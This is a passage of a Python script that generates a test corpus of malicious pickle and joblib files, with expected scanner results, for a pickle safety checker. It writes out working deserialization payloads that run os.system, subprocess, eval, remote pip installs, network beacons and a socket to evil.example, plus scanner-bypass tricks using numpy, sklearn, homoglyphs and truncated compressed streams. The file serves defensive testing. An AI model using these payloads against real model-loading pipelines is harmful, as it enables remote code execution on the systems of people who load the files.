    data = (PROTO(4) + EMPTY_DICT + SBU("cb") + SBU("os") + SBU("system") + STACK_GLOBAL + SETITEM
            + b"\xff" + STOP)
    add("reference_before_broken_bytes.pkl", data,
        "os.system referenced (a dict value), then an invalid opcode: scan must still say unsafe",
        ["os:system"], [])
    data = (PROTO(2) + MARK + GLOBAL("subprocess", "Popen") + BINPUT(0) + BU("x"))
    add("reference_then_eof.pkl", data,
        "subprocess.Popen named inside an open MARK, then the file ends (no STOP)",
        ["subprocess:Popen"], [])
    # Truncated payload: the call is made, then the stream ends mid-opcode.
    data = PROTO(2) + EMPTY_LIST + GLOBAL("os", "system") + BU(CMD) + TUPLE1 + REDUCE + APPEND + b"X\xff\xff"
    add("payload_then_truncated.pkl", data,
        "the call, then a BINUNICODE whose length runs past the end of the file (no STOP)",
        ["os:system"], [["os:system", ["id"]]])


def gen_py2():
    add("py2_builtin_eval_p0.pkl",
        GLOBAL("__builtin__", "eval") + PUT(0) + MARK + UNICODE(SRC) + PUT(1) + TUPLE + PUT(2) + REDUCE + PUT(3) + STOP,
        "__builtin__.eval at protocol 0 (fix_imports maps it to builtins.eval)",
        ["builtins:eval"], [["builtins:eval", [SRC]]])
    add("py2_copy_reg_reconstructor_p0.pkl",
        GLOBAL("copy_reg", "_reconstructor") + MARK + GLOBAL("subprocess", "Popen")
        + GLOBAL("__builtin__", "object") + NONE + TUPLE + REDUCE + STOP,
        "copy_reg._reconstructor(subprocess.Popen, __builtin__.object, None) at protocol 0",
        ["subprocess:Popen"], [])
    tree("py2_commands_getoutput", 2, Call(G("commands", "getoutput", "subprocess:getoutput"), CMD),
         "commands.getoutput: fix_imports maps the module to subprocess", ["subprocess:getoutput"])
    tree("py2_urllib2_urlopen", 0, Call(G("urllib2", "urlopen", "urllib.request:urlopen"), "http://evil.example/x"),
         "urllib2.urlopen: fix_imports maps it to urllib.request.urlopen", ["urllib.request:urlopen"])
    add("py2_builtin_getattr_p1.pkl",
        GLOBAL("__builtin__", "getattr") + MARK + GLOBAL("__builtin__", "__import__") + MARK
        + SHORT_BINSTRING("os") + TUPLE + REDUCE + SHORT_BINSTRING("system") + TUPLE + REDUCE
        + MARK + SHORT_BINSTRING(CMD) + TUPLE + REDUCE + STOP,
        "__builtin__.getattr(__builtin__.__import__('os'), 'system')('id') at protocol 1",
        ["builtins:getattr", "builtins:__import__"],
        [["builtins:__import__", ["os"]],
         ["builtins:getattr", [{"$call": {"callable": "builtins:__import__", "args": ["os"]}}, "system"]],
         [None, ["id"]]])


def gen_copyreg():
    tree("copyreg_reconstructor_os_system", 2,
         call("copyreg", "_reconstructor", os_system, G("builtins", "object"), CMD),
         "copyreg._reconstructor with os.system as the class (the admitted rule only types it as a global)",
         ["os:system"], [])
    tree("copyreg_newobj_popen", 2,
         call("copyreg", "__newobj__", G("subprocess", "Popen"), ["id"]),
         "copyreg.__newobj__(subprocess.Popen, ['id'])", ["subprocess:Popen"], [])
    tree("copyreg_newobj_ex_popen", 2,
         call("copyreg", "__newobj_ex__", G("subprocess", "Popen"), (["id"],), {"shell": True}),
         "copyreg.__newobj_ex__(subprocess.Popen, (['id'],), {'shell': True})", ["subprocess:Popen"], [])
    tree("functools_partial_os_system", 2,
         Call(call("functools", "partial", os_system, CMD)),
         "functools.partial(os.system, 'id')()", ["functools:partial", "os:system"])
    # partial's BUILD state carries keyword arguments: numpy.load(path, allow_pickle=True)
    p = Call(G("functools", "partial"), G("numpy", "load"),
             state=(G("numpy", "load"), ("/tmp/evil.npy",), {"allow_pickle": True}, None))
    tree("numpy_load_partial_allow_pickle", 2, Call(p),
         "functools.partial(numpy.load) with BUILD state (func, args, {'allow_pickle': True}, None), then called",
         ["functools:partial", "numpy:load"])


def gen_resolvers():
    tree("pkgutil_resolve_name", 4, Call(call("pkgutil", "resolve_name", "os:system"), CMD),
         "pkgutil.resolve_name('os:system')('id')", ["pkgutil:resolve_name"])
    tree("pydoc_locate", 2, Call(call("pydoc", "locate", "os.system"), CMD),
         "pydoc.locate('os.system')('id')", ["pydoc:locate"])
    tree("importlib_import_module", 4,
         Call(call("builtins", "getattr", call("importlib", "import_module", "os"), "system"), CMD),
         "getattr(importlib.import_module('os'), 'system')('id')",
         ["importlib:import_module", "builtins:getattr"])
    tree("operator_attrgetter", 2,
         Call(Call(call("operator", "attrgetter", "system"), call("importlib", "__import__", "os")), CMD),
         "operator.attrgetter('system')(importlib.__import__('os'))('id')",
         ["operator:attrgetter", "importlib:__import__"])
    tree("operator_methodcaller", 3,
         Call(call("operator", "methodcaller", "system", CMD), call("builtins", "__import__", "os")),
         "operator.methodcaller('system', 'id')(__import__('os'))",
         ["operator:methodcaller", "builtins:__import__"])


def gen_nested_loads():
    inner = Pickler(2).dumps(Call(os_system, CMD))
    tree("pickle_loads", 3, call("pickle", "loads", inner),
         "pickle.loads(b'<a pickle calling os.system>')", ["pickle:loads"],
         notes="the inner pickle names os:system; picklevm is not required to decode it")
    tree("_pickle_loads", 4, call("_pickle", "loads", inner),
         "_pickle.loads (the C unpickler) of a nested pickle", ["_pickle:loads"])
    code = compile(SRC_STMT, "<pvm>", "exec")
    tree("marshal_loads_functiontype", 4,
         Call(call("types", "FunctionType", call("marshal", "loads", marshal.dumps(code)), {})),
         "types.FunctionType(marshal.loads(<code bytes>), {})()",
         ["types:FunctionType", "marshal:loads"])
    args = (code.co_argcount, code.co_posonlyargcount, code.co_kwonlyargcount, code.co_nlocals,
            code.co_stacksize, code.co_flags, code.co_code, code.co_consts, code.co_names,
            code.co_varnames, code.co_filename, code.co_name, code.co_qualname, code.co_firstlineno,
            code.co_linetable, code.co_exceptiontable, code.co_freevars, code.co_cellvars)
    for c in code.co_consts:
        assert c is None or isinstance(c, (str, int)), c
    tree("types_codetype_functiontype", 4,
         Call(call("types", "FunctionType", call("types", "CodeType", *args), {})),
         "types.CodeType(...18 fields...) then types.FunctionType(code, {})()",
         ["types:FunctionType", "types:CodeType"])
    tree("torch_style_open_pickle_load", 2,
         call("pickle", "load", call("builtins", "open", "/tmp/evil.pkl", "rb")),
         "torch.load-style: pickle.load(open('/tmp/evil.pkl', 'rb'))",
         ["pickle:load", "builtins:open"])
    tree("joblib_load_nested", 4, call("joblib.numpy_pickle", "load", "/tmp/evil.joblib"),
         "joblib.numpy_pickle.load of another file", ["joblib.numpy_pickle:load"])


def gen_bypasses():
    t = tree
    t("runpy__run_code", 4, call("runpy", "_run_code", SRC_STMT, {}),
      "runpy._run_code(src, {}) = exec", ["runpy:_run_code"])
    t("runpy_run_path", 2, call("runpy", "run_path", "/tmp/evil.py"),
      "runpy.run_path", ["runpy:run_path"])
    t("timeit_timeit", 2, call("timeit", "timeit", SRC_STMT, "pass", None, 1),
      "timeit.timeit(stmt, setup, timer, number) compiles and runs stmt", ["timeit:timeit"])
    t("cprofile_run", 4, call("cProfile", "run", SRC_STMT),
      "cProfile.run(src) = exec", ["cProfile:run"])
    t("profile_run", 3, call("profile", "run", SRC_STMT),
      "profile.run(src) = exec", ["profile:run"])
    t("bdb_bdb_run", 4, Call(G("bdb", "Bdb.run"), call("bdb", "Bdb"), SRC_STMT),
      "bdb.Bdb.run(bdb.Bdb(), src) via a dotted protocol-4 name", ["bdb:Bdb.run", "bdb:Bdb"])
    t("code_interactive_runsource", 4,
      Call(G("code", "InteractiveInterpreter.runsource"), call("code", "InteractiveInterpreter"), SRC_STMT),
      "code.InteractiveInterpreter().runsource(src)",
      ["code:InteractiveInterpreter.runsource", "code:InteractiveInterpreter"])
    t("pydoc_pipepager", 2, call("pydoc", "pipepager", "x", CMD),
      "pydoc.pipepager(text, cmd) runs cmd in a shell", ["pydoc:pipepager"])
    t("pip_main", 2, call("pip", "main", ["install", "evil-package"]),
      "pip.main(['install', ...])", ["pip:main"])
    t("pip_internal_main", 4, call("pip._internal", "main", ["install", "--index-url", "http://evil.example/", "x"]),
      "pip._internal.main(['install', ...])", ["pip._internal:main"])
    t("uuid_get_command_stdout", 4, call("uuid", "_get_command_stdout", "sh", "-c", CMD),
      "uuid._get_command_stdout runs a command", ["uuid:_get_command_stdout"])
    t("ctypes_cdll", 2, call("ctypes", "CDLL", "/tmp/evil.so"),
      "ctypes.CDLL loads a shared library (its constructors run)", ["ctypes:CDLL"])
    t("ctypes_cdll_loadlibrary", 4, Call(G("ctypes", "cdll.LoadLibrary"), "/tmp/evil.so"),
      "ctypes.cdll.LoadLibrary via a dotted name", ["ctypes:cdll.LoadLibrary"])
    t("webbrowser_open", 2, call("webbrowser", "open", "http://evil.example/"),
      "webbrowser.open", ["webbrowser:open"])
    t("logging_filehandler", 4, call("logging", "FileHandler", "/tmp/pvm_pwned", "w"),
      "logging.FileHandler creates/truncates a file", ["logging:FileHandler"])
    t("urllib_request_urlopen", 3, call("urllib.request", "urlopen", "http://evil.example/beacon"),
      "urllib.request.urlopen: network beacon", ["urllib.request:urlopen"])
    t("requests_get", 4, call("requests", "get", "http://evil.example/beacon"),
      "requests.get: network beacon", ["requests:get"])
    t("socket_create_connection", 2, call("socket", "create_connection", ("evil.example", 4444)),
      "socket.create_connection to a remote host", ["socket:create_connection"])
    t("asyncio_subprocess_shell", 4, call("asyncio.subprocess", "create_subprocess_shell", CMD),
      "asyncio.subprocess.create_subprocess_shell", ["asyncio.subprocess:create_subprocess_shell"])
    t("multiprocessing_spawnv_passfds", 2,
      call("multiprocessing.util", "spawnv_passfds", "/bin/sh", ["sh", "-c", CMD], []),
      "multiprocessing.util.spawnv_passfds forks and execs", ["multiprocessing.util:spawnv_passfds"])
    t("shutil_rmtree", 2, call("shutil", "rmtree", "/tmp/victim"),
      "shutil.rmtree deletes a tree", ["shutil:rmtree"])
    t("tempfile_mkstemp", 4, call("tempfile", "mkstemp", "", "pvm", "/tmp"),
      "tempfile.mkstemp creates a file", ["tempfile:mkstemp"])
    t("zipfile_extractall", 4,
      Call(G("zipfile", "ZipFile.extractall"), call("zipfile", "ZipFile", "/tmp/evil.zip"), "/"),
      "zipfile.ZipFile('/tmp/evil.zip').extractall('/') via a dotted name",
      ["zipfile:ZipFile.extractall", "zipfile:ZipFile"])
    t("imp_load_source", 2, call("imp", "load_source", "evil", "/tmp/evil.py"),
      "imp.load_source executes a source file", ["imp:load_source"])
    t("importlib_sourcefileloader", 4,
      Call(G("importlib.machinery", "SourceFileLoader.load_module"),
           call("importlib.machinery", "SourceFileLoader", "evil", "/tmp/evil.py")),
      "importlib.machinery.SourceFileLoader('evil', path).load_module()",
      ["importlib.machinery:SourceFileLoader.load_module", "importlib.machinery:SourceFileLoader"])


def gen_numpy_carriers():
    # numpy's own admitted calls carrying the payload in their arguments/state.
    # _reconstruct(ndarray, (0,), b'b') + BUILD (1, (1,), dtype, False, <call>)
    body = (SBU("numpy.core.multiarray") + SBU("_reconstruct") + STACK_GLOBAL
            + SBU("numpy") + SBU("ndarray") + STACK_GLOBAL + BININT1(0) + TUPLE1 + SHORT_BINBYTES(b"b") + TUPLE3 + REDUCE
            + MARK + BININT1(1) + BININT1(1) + TUPLE1
            + SBU("numpy") + SBU("dtype") + STACK_GLOBAL + SBU("f8") + NEWFALSE + NEWTRUE + TUPLE3 + REDUCE
            + MARK + BININT1(3) + SBU("<") + NONE + NONE + NONE + BININT(-1) + BININT(-1) + BININT1(0) + TUPLE + BUILD
            + NEWFALSE + SBU("os") + SBU("system") + STACK_GLOBAL + SBU(CMD) + TUPLE1 + REDUCE + TUPLE + BUILD + STOP)
    add("ndarray_build_state_call.pkl", framed(4, body),
        "numpy _reconstruct + BUILD whose data slot is an os.system call instead of bytes",
        ["os:system"], [["os:system", ["id"]]])
    body = (SBU("numpy") + SBU("dtype") + STACK_GLOBAL + SBU("f8") + NEWFALSE + NEWTRUE + TUPLE3 + REDUCE
            + MARK + BININT1(3) + SBU("<") + NONE + NONE
            + SBU("os") + SBU("system") + STACK_GLOBAL + SBU(CMD) + TUPLE1 + REDUCE
            + BININT(-1) + BININT(-1) + BININT1(0) + TUPLE + BUILD + STOP)
    add("dtype_build_state_call.pkl", framed(4, body),
        "numpy.dtype BUILD state with an os.system call in the fields slot",
        ["os:system"], [["os:system", ["id"]]])
    body = (SBU("numpy.core.multiarray") + SBU("scalar") + STACK_GLOBAL
            + SBU("numpy") + SBU("dtype") + STACK_GLOBAL + SBU("f8") + NEWFALSE + NEWTRUE + TUPLE3 + REDUCE
            + MARK + BININT1(3) + SBU("<") + NONE + NONE + NONE + BININT(-1) + BININT(-1) + BININT1(0) + TUPLE + BUILD
            + SBU("os") + SBU("system") + STACK_GLOBAL + SBU(CMD) + TUPLE1 + REDUCE + TUPLE2 + REDUCE + STOP)
    add("scalar_data_call.pkl", framed(4, body),
        "numpy.core.multiarray.scalar(dtype, <os.system call>) -- the admitted rule takes 'any' data",
        ["os:system"], [["os:system", ["id"]]])
    tree("reconstruct_class_popen", 2,
         call("numpy.core.multiarray", "_reconstruct", G("subprocess", "Popen"), (0,), b"b"),
         "numpy _reconstruct with subprocess.Popen as the array class",
         ["subprocess:Popen"], [])
    add("non_ascii_homoglyph_numpy.pkl",
        PROTO(4) + SBU("num\u0440y") + SBU("dtype") + STACK_GLOBAL + SBU("f8") + NEWFALSE + NEWTRUE + TUPLE3 + REDUCE + STOP,
        "a Cyrillic 'р' in 'numpy' (homoglyph): must not be folded into numpy:dtype",
        ["num\u0440y:dtype"], [["num\u0440y:dtype", ["f8", False, True]]])
    add("non_ascii_module_p0.pkl",
        GLOBAL("\u00f6s", "system") + MARK + UNICODE(CMD) + TUPLE + REDUCE + STOP,
        "a non-ASCII (UTF-8) module name in a protocol 0 GLOBAL",
        ["\u00f6s:system"], [["\u00f6s:system", ["id"]]])


# ---------------------------------------------------------------------------
# joblib carriers, made with the real joblib / scikit-learn.

def os_system_p4_bytes():
    return SBU("os") + SBU("system") + STACK_GLOBAL + SBU(CMD) + TUPLE1 + REDUCE


def splice_marker(data, payload, marker):
    """Replace SHORT_BINUNICODE marker (same length as payload) by payload."""
    op = SBU(marker)
    assert len(op) == len(payload), (len(op), len(payload))
    assert data.count(op) == 1
    return data.replace(op, payload)


def splice_in_first_frame(data, old, new):
    """Replace old by new inside the FRAME that follows PROTO 4, fixing the
    frame's length."""
    assert data[2] == 0x95
    n = struct.unpack("<Q", data[3:11])[0]
    i = data.index(old)
    assert data.count(old) == 1 and 11 <= i and i + len(old) <= 11 + n
    n += len(new) - len(old)
    return data[:3] + struct.pack("<Q", n) + data[11:i] + new + data[i + len(old):]


def fix_first_array_padding(data):
    """After the first FRAME comes joblib's padding-length byte, the padding
    and the first array's bytes, aligned to 16 in the file: redo the padding
    after the frame changed size."""
    n = struct.unpack("<Q", data[3:11])[0]
    q = 11 + n
    old_pad = data[q]
    pad = (-(q + 1)) % 16
    return data[:q] + bytes([pad]) + b"\xff" * pad + data[q + 1 + old_pad:]


def marker_for(payload):
    n = len(payload) - 2
    assert n >= 7
    return ("PVMMARK" + "x" * n)[:n]


def gen_joblib(tmp):
    import joblib
    import numpy as np

    # 1. An object array: joblib writes it as a pickle of its own.  Replace
    #    one element of that nested pickle with the call.
    path = os.path.join(tmp, "objarr.joblib")
    joblib.dump({"w": np.arange(4.0), "labels": np.array([1, "PVMOBJ"], dtype=object)}, path)
    with open(path, "rb") as f:
        data = f.read()
    old = BU("PVMOBJ")
    assert data.count(old) == 1
    data = data.replace(old, GLOBAL("os", "system") + BU(CMD) + TUPLE1 + REDUCE)
    add("joblib_object_array_payload.joblib", data,
        "joblib.dump of an object array; the nested pickle of the array holds an os.system call as an element",
        ["os:system"], [["os:system", ["id"]]],
        notes="the call is in the object array's own pickle (protocol 2), not in the main stream")

    # 2. The payload in the main stream of a joblib file, then compressed the
    #    way joblib compresses (its compressors write these exact formats).
    payload = os_system_p4_bytes()
    marker = marker_for(payload)
    path = os.path.join(tmp, "plain.joblib")
    joblib.dump({"coef": np.arange(6.0).reshape(2, 3), "hook": marker, "b": np.ones(2, dtype=np.int32)}, path)
    with open(path, "rb") as f:
        plain = splice_marker(f.read(), payload, marker)
    add("joblib_plain_payload.joblib", plain,
        "a joblib file (inline arrays) with an os.system call among the arrays",
        ["os:system"], [["os:system", ["id"]]])
    comps = {
        "zlib": lambda b: zlib.compress(b, 3),
        "gzip": lambda b: gzip.compress(b, 3, mtime=0),
        "bz2": lambda b: bz2.compress(b, 3),
        "lzma": lambda b: lzma.compress(b, format=lzma.FORMAT_ALONE),
        "xz": lambda b: lzma.compress(b, format=lzma.FORMAT_XZ, check=lzma.CHECK_CRC64),
    }
    for name, fn in comps.items():
        add("joblib_%s_payload.joblib" % name, fn(plain),
            "the joblib payload file compressed as joblib's %s compressor writes it" % name,
            ["os:system"], [["os:system", ["id"]]])
    # Truncated compressed files: the payload decompresses, the rest is cut
    # (joblib's reader runs the prefix before it meets the end of the data).
    truncs = {
        "zlib": (zlib.compress(plain, 9), lambda: zlib.decompressobj()),
        "gzip": (gzip.compress(plain, 9, mtime=0), lambda: zlib.decompressobj(31)),
        "xz": (lzma.compress(plain, format=lzma.FORMAT_XZ), lambda: lzma.LZMADecompressor(format=lzma.FORMAT_XZ)),
    }
    for name, (z, dec) in truncs.items():
        cut = None
        for n in range(16, len(z)):
            try:
                part = dec().decompress(z[:n])
            except (zlib.error, lzma.LZMAError, EOFError):
                continue
            if payload in part:
                cut = z[:n]
                break
        assert cut is not None and len(cut) < len(z), name
        add("joblib_%s_truncated_payload.joblib" % name, cut,
            "a %s-compressed joblib file cut short just after the payload (joblib reads and runs the prefix)" % name,
            ["os:system"], [["os:system", ["id"]]], load_exit=[1, 2],
            notes="load may refuse at the global (1) or reject the truncated stream before running it (2); "
                  "scan and trace must still report the call joblib would make")
    # The object-array file, compressed (nested pickle inside compression).
    add("joblib_zlib_object_array_payload.joblib", zlib.compress(data, 3),
        "the object-array payload file, zlib-compressed",
        ["os:system"], [["os:system", ["id"]]])

    # 3. The wrapper's own state naming os.system as the array subclass.
    path = os.path.join(tmp, "wrap.joblib")
    joblib.dump([np.arange(3.0)], path)
    with open(path, "rb") as f:
        data = f.read()
    # keep 'numpy' and 'ndarray' in their memo slots (the dtype reuses them),
    # drop them, and push os.system instead; the first FRAME is resized.
    old = SBU("numpy") + MEMOIZE + SBU("ndarray") + MEMOIZE + STACK_GLOBAL
    new = SBU("numpy") + MEMOIZE + SBU("ndarray") + MEMOIZE + POP + POP + GLOBAL("os", "system")
    data = fix_first_array_padding(splice_in_first_frame(data, old, new))
    add("joblib_wrapper_subclass.joblib", data,
        "joblib NumpyArrayWrapper state whose 'subclass' is os.system",
        ["os:system"], [],
        notes="joblib would call _reconstruct(subclass, ...) / subclass.__array_prepare__; the global must be refused")


def gen_sklearn():
    import pickle
    from sklearn.linear_model import LogisticRegression
    payload = os_system_p4_bytes()
    marker = marker_for(payload)
    est = LogisticRegression(C=0.5)
    est.classes_ = marker
    data = pickle.dumps(est, protocol=4)
    data = splice_marker(data, payload, marker)
    add("sklearn_state_dict_call.pkl", data,
        "a real LogisticRegression pickle (NEWOBJ + BUILD dict); classes_ is an os.system call",
        ["os:system"], [["os:system", ["id"]]])
    # handwritten, with the call nested in a list in the state
    state = {"C": 1.0, "penalty": "l2", "coef_": [Call(G("subprocess", "check_output"), ["id"])],
             "_sklearn_version": "1.2.1"}
    v = Call(G("sklearn.linear_model._logistic", "LogisticRegression"), kind="newobj", state=state)
    p = Pickler(4, memo=True)
    body = p.enc(v) + STOP
    add("sklearn_state_nested_call.pkl", framed(4, body),
        "handwritten LogisticRegression NEWOBJ + BUILD whose coef_ list holds subprocess.check_output(['id'])",
        ["subprocess:check_output"], [["subprocess:check_output", [["id"]]]])


def gen_policy():
    # Globals the policy knows, used in a way it does not admit: each is
    # refused by load (exit 1, naming the global, its use and the offset)
    # and flagged by scan.
    tree("policy_instantiate_only_class_called", 4,
         call("sklearn.linear_model._logistic", "LogisticRegression"),
         "an sklearn estimator class (admitted for instantiation) called by REDUCE",
         ["sklearn.linear_model._logistic:LogisticRegression"])
    tree("policy_codecs_encode_wrong_codec", 2,
         call("_codecs", "encode", "abc", "utf-8"),
         "_codecs.encode outside its constraint (str, 'latin1')",
         ["_codecs:encode"], calls=[["_codecs:encode", ["abc", "utf-8"]]])
    tree("policy_reconstruct_foreign_subtype", 2,
         call("numpy.core.multiarray", "_reconstruct",
              G("sklearn.linear_model._logistic", "LogisticRegression"), (0,), b"b"),
         "numpy's _reconstruct with a subtype that is not an ndarray class",
         ["numpy.core.multiarray:_reconstruct"],
         calls=[["numpy.core.multiarray:_reconstruct",
                 [{"$global": "sklearn.linear_model._logistic:LogisticRegression"},
                  {"$tuple": [0]}, {"$bytes": "Yg=="}]]])
    tree("policy_pattern_class_with_arguments", 4,
         Call(G("sklearn.svm._classes", "SVC"), "x", kind="newobj"),
         "an sklearn class admitted by the pattern, instantiated with arguments (how gadgets are built)",
         ["sklearn.svm._classes:SVC"])


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--out", default=os.path.join(HERE, "corpus"))
    a = ap.parse_args()
    import tempfile
    with tempfile.TemporaryDirectory() as tmp:
        gen_basic()
        gen_builtins()
        gen_policy()
        gen_memo()
        gen_call_opcodes()
        gen_dotted()
        gen_build()
        gen_sklearn_gadgets()
        gen_ext_persid()
        gen_stream_tricks()
        gen_py2()
        gen_copyreg()
        gen_resolvers()
        gen_nested_loads()
        gen_bypasses()
        gen_numpy_carriers()
        gen_joblib(tmp)
        gen_sklearn()
    os.makedirs(a.out, exist_ok=True)
    for f in os.listdir(a.out):
        os.unlink(os.path.join(a.out, f))
    for name, data, meta in CORPUS:
        with open(os.path.join(a.out, name), "wb") as f:
            f.write(data)
        stem = name.rsplit(".", 1)[0]
        with open(os.path.join(a.out, stem + ".expect.json"), "w", encoding="utf-8") as f:
            json.dump(meta, f, indent=1, ensure_ascii=False)
            f.write("\n")
    print("wrote %d files to %s" % (len(CORPUS), a.out))


if __name__ == "__main__":
    main()
